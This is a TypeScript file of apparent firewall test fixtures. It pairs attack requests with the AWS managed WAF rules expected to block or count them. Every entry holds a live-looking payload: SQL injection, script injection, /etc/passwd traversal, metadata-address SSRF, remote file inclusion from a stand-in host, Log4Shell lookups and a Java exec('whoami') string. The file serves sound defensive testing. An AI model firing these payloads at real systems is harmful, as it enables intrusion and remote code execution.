import { WafRequest } from './waf';

/** An attack, and the managed rule that knows it. */
export interface Attack {
  readonly request: WafRequest;
  readonly rule: string;
  /** The rule of the web ACL that blocks on it; undefined if it only counts. */
  readonly blocks?: 'Attacks' | 'QueryAttacks' | 'SignInAttacks';
}

const AGENT = { 'user-agent': 'Mozilla/5.0' };

function attack(rule: string, blocks: Attack['blocks'], request: WafRequest): Attack {
  return { rule, blocks, request: { ...request, headers: { ...AGENT, ...request.headers } } };
}

const post = (path: string, body: string): WafRequest => ({ method: 'POST', path, body });
const JAVA = 'x=%28java.lang.Runtime%29.getRuntime%28%29.exec%28%22whoami%22%29';

/** Attacks by what they are, after the examples in the documentation of the managed rules. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'SQL in the body of a sign-in': attack('SQLi_BODY', 'SignInAttacks', post('/api/login', '{"email":"\' OR 1=1 --"}')),
  'SQL in the body of a sign-in, with an encoded path': attack('SQLi_BODY', 'SignInAttacks', post('/api/log%69n', '{"email":"\' OR 1=1 --"}')),
  'SQL in the body of a sign-in, with a doubled slash': attack('SQLi_BODY', 'SignInAttacks', post('//api//login/', '{"email":"\' OR 1=1 --"}')),
  'a script in the body of a sign-up': attack(
    'CrossSiteScripting_BODY',
    'SignInAttacks',
    post('/api/signup/', '{"first_name":"<script>alert(1)</script>"}'),
  ),
  'a file in the body of a reset': attack('GenericLFI_BODY', 'SignInAttacks', post('/api/reset/', '{"email":"../../etc/passwd"}')),
  'instance metadata in the body of a sign-in': attack(
    'EC2MetaDataSSRF_BODY',
    'SignInAttacks',
    post('/api/login', '{"next":"http://169.254.169.254/"}'),
  ),
  'a remote file in the body of a sign-in': attack('GenericRFI_BODY', 'SignInAttacks', post('/api/login', '{"next":"http://198.51.100.1/x"}')),
  'Log4Shell in the body of a sign-in': attack('Log4JRCE_BODY', 'SignInAttacks', post('/api/login', '{"email":"${jndi:ldap://x/a}"}')),
  'React2Shell in the body of a sign-in': attack('ReactJSRCE_BODY', 'SignInAttacks', post('/api/login', '{"then":"$1:__proto__:then"}')),
  'SQL in the query string of a sign-in': attack('SQLi_QUERYARGUMENTS', 'QueryAttacks', { path: "/api/login?email=' OR 1=1 --" }),
  'SQL in the query string of a page': attack('SQLi_QUERYARGUMENTS', 'QueryAttacks', { path: "/shared/abc?x=' UNION SELECT 1 --" }),
  'a script in a query string': attack('CrossSiteScripting_QUERYARGUMENTS', 'QueryAttacks', { path: '/insights?x=<script>alert(1)</script>' }),
  'a file in a query string': attack('GenericLFI_QUERYARGUMENTS', 'QueryAttacks', { path: '/exporter?file=../../etc/passwd' }),
  'a remote file in a query string': attack('GenericRFI_QUERYARGUMENTS', 'QueryAttacks', { path: '/?page=http://198.51.100.1/shell' }),
  'instance metadata in a query string': attack('EC2MetaDataSSRF_QUERYARGUMENTS', 'QueryAttacks', { path: '/?url=http://169.254.169.254/latest/' }),
  'Log4Shell in a query string': attack('Log4JRCE_QUERYSTRING', 'QueryAttacks', { path: '/?x=${jndi:ldap://x/a}' }),
  'Java in a query string': attack('JavaDeserializationRCE_QUERYSTRING', 'QueryAttacks', { path: `/?${JAVA}` }),
  'a file in a path': attack('GenericLFI_URIPATH', 'Attacks', { path: '/project/..%2f..%2fetc/passwd' }),
  'a file in the path of an SDK': attack('GenericLFI_URIPATH', 'Attacks', { path: '/static/../../etc/passwd' }),
  'the log of a server': attack('RestrictedExtensions_URIPATH', 'Attacks', { path: '/backup/server.log' }),
  'paths of a Java server': attack('ExploitablePaths_URIPATH', 'Attacks', { path: '/WEB-INF/web.xml' }),
  'a script in a path': attack('CrossSiteScripting_URIPATH', 'Attacks', { path: '/project/1/<script>alert(1)</script>' }),
  'Log4Shell in a header': attack('Log4JRCE_HEADER', 'Attacks', { path: '/', headers: { 'x-api-version': '${jndi:ldap://x/a}' } }),
  'Log4Shell in a header of the API': attack('Log4JRCE_HEADER', 'Attacks', { path: '/api/projects/', headers: { referer: '${jndi:ldap://x/a}' } }),
  'a scanner': attack('UserAgent_BadBots_HEADER', 'Attacks', { path: '/', headers: { 'user-agent': 'Nessus SOAP' } }),
  'Java in a header': attack('JavaDeserializationRCE_HEADER', 'Attacks', { path: '/', headers: { 'x-class': 'class.module.classLoader' } }),
  'SQL in the body of a query, which is HogQL as well': attack('SQLi_BODY', undefined, post('/api/environments/1/query/', "' OR 1=1 --")),
  'SQL in a query string of the API': attack('SQLi_QUERYARGUMENTS', undefined, { path: "/api/projects/1/persons/?search=' OR 1=1 --" }),
  'SQL in a cookie': attack('SQLi_COOKIE', undefined, { path: '/', headers: { cookie: "a=' OR 1=1 --" } }),
};
